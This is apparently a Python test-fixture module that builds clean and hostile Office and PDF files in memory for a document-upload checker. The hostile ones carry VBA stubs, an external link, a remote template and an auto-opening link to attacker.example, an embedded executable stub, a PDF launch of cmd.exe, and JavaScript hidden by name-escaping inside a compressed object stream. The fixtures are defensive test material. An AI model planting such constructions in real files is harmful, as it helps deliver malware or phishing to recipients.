"""Evidence files built in the tests: minimal valid Office packages and PDFs, clean or
carrying what the evidence checks refuse (macros, external links, embedded programs,
JavaScript, launch actions, …). Nothing is read from disk."""

from __future__ import annotations

import io
import zipfile
import zlib
from dataclasses import dataclass

CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
DOC_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
PPT_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
VBA = "application/vnd.ms-office.vbaProject"
EXE = b"MZ\x90\x00\x03" + b"\0" * 59 + b"This program cannot be run in DOS mode." + b"\0" * 64
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 504


def _types(main_part: str, main_type: str, defaults: dict[str, str], overrides: dict) -> str:
    items = [
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>',
        '<Default Extension="xml" ContentType="application/xml"/>',
        *(f'<Default Extension="{ext}" ContentType="{kind}"/>' for ext, kind in defaults.items()),
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/>',
        *(
            f'<Override PartName="/{part}" ContentType="{kind}"/>'
            for part, kind in overrides.items()
        ),
    ]
    return f'<?xml version="1.0"?><Types xmlns="{CT_NS}">{"".join(items)}</Types>'


def rels(*relationships: tuple[str, str, str, bool]) -> str:
    """A relationships part: (id, type, target, external) each."""
    items = "".join(
        f'<Relationship Id="{rid}" Type="{OFFICE_REL}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for rid, kind, target, external in relationships
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{REL_NS}">{items}</Relationships>'


@dataclass
class Package:
    """An Office Open XML package, to which a test adds what it needs before ``build``."""

    main_part: str
    main_type: str
    parts: dict[str, bytes | str]
    defaults: dict[str, str]
    overrides: dict[str, str]

    def build(self) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            types = _types(self.main_part, self.main_type, self.defaults, self.overrides)
            archive.writestr("[Content_Types].xml", types)
            for name, content in self.parts.items():
                archive.writestr(name, content)
        return buffer.getvalue()


def xlsx() -> Package:
    """A workbook with one sheet holding one number."""
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.'
        'org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>42</v></c></row>'
        "</sheetData></worksheet>"
    )
    workbook = (
        '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.'
        f'org/spreadsheetml/2006/main" xmlns:r="{OFFICE_REL}"><sheets><sheet name="Data" '
        'sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    return Package(
        main_part="xl/workbook.xml",
        main_type=SHEET_MAIN,
        parts={
            "_rels/.rels": rels(("rId1", "officeDocument", "xl/workbook.xml", False)),
            "xl/workbook.xml": workbook,
            "xl/_rels/workbook.xml.rels": rels(
                ("rId1", "worksheet", "worksheets/sheet1.xml", False)
            ),
            "xl/worksheets/sheet1.xml": sheet,
        },
        defaults={},
        overrides={
            "xl/worksheets/sheet1.xml": "application/vnd.openxmlformats-officedocument."
            "spreadsheetml.worksheet+xml"
        },
    )


def docx() -> Package:
    """A document with one paragraph and a web link (which is fine: it is only clicked)."""
    document = (
        '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats'
        '.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Board minutes</w:t></w:r></w:p>'
        "</w:body></w:document>"
    )
    return Package(
        main_part="word/document.xml",
        main_type=DOC_MAIN,
        parts={
            "_rels/.rels": rels(("rId1", "officeDocument", "word/document.xml", False)),
            "word/document.xml": document,
            "word/_rels/document.xml.rels": rels(
                ("rId1", "hyperlink", "https://example.org/minutes", True)
            ),
        },
        defaults={},
        overrides={},
    )


def macro_workbook() -> bytes:
    """What the audit found: an .xlsm (macro content type, VBA project) named .xlsx."""
    package = xlsx()
    package.main_type = XLSM_MAIN
    package.defaults["bin"] = VBA
    package.parts["xl/vbaProject.bin"] = OLE
    package.parts["xl/_rels/workbook.xml.rels"] = rels(
        ("rId1", "worksheet", "worksheets/sheet1.xml", False),
        ("rId2", "vbaProject", "vbaProject.bin", False),
    )
    return package.build()


def workbook_with_vba_only() -> bytes:
    """A VBA project slipped into a plain xlsx, its content type left plain."""
    package = xlsx()
    package.parts["xl/vbaProject.bin"] = OLE
    return package.build()


def workbook_with_external_link() -> bytes:
    package = xlsx()
    package.parts["xl/externalLinks/externalLink1.xml"] = (
        '<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.'
        'openxmlformats.org/spreadsheetml/2006/main"><externalBook r:id="rId1" '
        f'xmlns:r="{OFFICE_REL}"/></externalLink>'
    )
    package.parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = rels(
        ("rId1", "externalLinkPath", "file:///C:/secret/budget.xlsx", True)
    )
    return package.build()


def document_with_remote_template() -> bytes:
    package = docx()
    package.parts["word/_rels/settings.xml.rels"] = rels(
        ("rId1", "attachedTemplate", "https://attacker.example/template.dotm", True)
    )
    return package.build()


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def document_with_body(body: str) -> bytes:
    """A document whose body is ``body`` (WordprocessingML paragraphs)."""
    package = docx()
    package.parts["word/document.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body>{body}</w:body>'
        "</w:document>"
    )
    return package.build()


def field(*instruction_runs: str, result: str = "42") -> str:
    """A complex field: its instruction split over runs, as Word saves it, then its result."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{t}</w:instrText></w:r>' for t in instruction_runs
    )
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def workbook_with_formula(formula: str) -> bytes:
    package = xlsx()
    package.parts["xl/worksheets/sheet1.xml"] = (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.'
        'org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>'
        f"{formula}</f><v>0</v></c></row></sheetData></worksheet>"
    )
    return package.build()


def document_with_embedded_exe() -> bytes:
    package = docx()
    package.parts["word/embeddings/setup.exe"] = EXE
    return package.build()


def document_with_ole_package() -> bytes:
    package = docx()
    package.parts["word/embeddings/oleObject1.bin"] = OLE + EXE
    return package.build()


def document_with_workbook_with_macros() -> bytes:
    """A chart's workbook embedded in a document, itself carrying a VBA project."""
    package = docx()
    package.parts["word/embeddings/Microsoft_Excel_Worksheet.xlsx"] = workbook_with_vba_only()
    return package.build()


def document_with_clean_workbook() -> bytes:
    package = docx()
    package.parts["word/embeddings/Microsoft_Excel_Worksheet.xlsx"] = xlsx().build()
    return package.build()


def presentation() -> bytes:
    """A package whose own content type says presentation: not an accepted type."""
    package = docx()
    package.main_type = PPT_MAIN
    return package.build()


def zip_bomb_like(members: int) -> bytes:
    package = xlsx()
    for n in range(members):
        package.parts[f"xl/media/pad{n}.xml"] = "<a/>"
    return package.build()


# --- PDF --------------------------------------------------------------------------------------


def pdf(*objects: bytes, catalog: bytes = b"") -> bytes:
    """A small PDF: a catalog (with ``catalog`` added to its dictionary), a page, and
    ``objects`` numbered from 4."""
    body = [
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>\nendobj\n",
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n",
        *(b"%d 0 obj\n" % (n + 4) + o + b"\nendobj\n" for n, o in enumerate(objects)),
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for item in body:
        offsets.append(len(out))
        out += item
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(body) + 1, xref)
    return bytes(out)


def object_stream(content: bytes) -> bytes:
    """An object stream (PDF 1.5) holding ``content``, deflated: what hides objects."""
    data = zlib.compress(content)
    return (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(data)
        + data
        + b"\nendstream"
    )


CLEAN_PDF = pdf(catalog=b"/OpenAction [3 0 R /Fit]")
PDF_WITH_JAVASCRIPT = pdf(
    b"<< /S /JavaScript /JS (app.alert\\('hi'\\);) >>", catalog=b"/OpenAction 4 0 R"
)
PDF_WITH_LAUNCH = pdf(b"<< /S /Launch /F (cmd.exe) >>", catalog=b"/OpenAction 4 0 R")
PDF_WITH_EMBEDDED_FILE = pdf(
    b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
    catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
)
PDF_WITH_AUTORUN = pdf(catalog=b"/OpenAction << /S /URI /URI (https://attacker.example) >>")
# "/JavaScript" spelt with #-escapes, inside a compressed object stream.
PDF_WITH_HIDDEN_JAVASCRIPT = pdf(
    object_stream(b"5 0 << /S /Java#53cript /JS (app.alert\\(1\\)) >>"),
    catalog=b"/OpenAction 5 0 R",
)
PDF_WITH_CLEAN_OBJECT_STREAM = pdf(object_stream(b"5 0 << /S /URI /URI (https://example.org) >>"))
PDF_WITH_UNREADABLE_OBJECT_STREAM = pdf(
    b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 12 >>\nstream\n"
    b"not deflated\nendstream"
)


# (file name, content, what the refusal must say): each refused on the page and the API.
HOSTILE_FILES = [
    ("budget.xlsx", macro_workbook(), "contains macros"),
    ("figures.xlsx", workbook_with_external_link(), "loads content from outside the file"),
    ("minutes.docx", document_with_embedded_exe(), "has a program embedded in it"),
    ("report.pdf", PDF_WITH_JAVASCRIPT, "contains JavaScript"),
    ("report.pdf", PDF_WITH_LAUNCH, "can start programs"),
]
HOSTILE_IDS = ["xlsm-named-xlsx", "xlsx-external-link", "docx-embedded-exe", "pdf-js", "pdf-launch"]
# (file name, content, the type it is stored as): each accepted.
CLEAN_FILES = [
    (
        "figures.xlsx",
        xlsx().build(),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    (
        "minutes.docx",
        docx().build(),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    ("report.pdf", CLEAN_PDF, "application/pdf"),
]
CLEAN_IDS = ["xlsx", "docx", "pdf"]
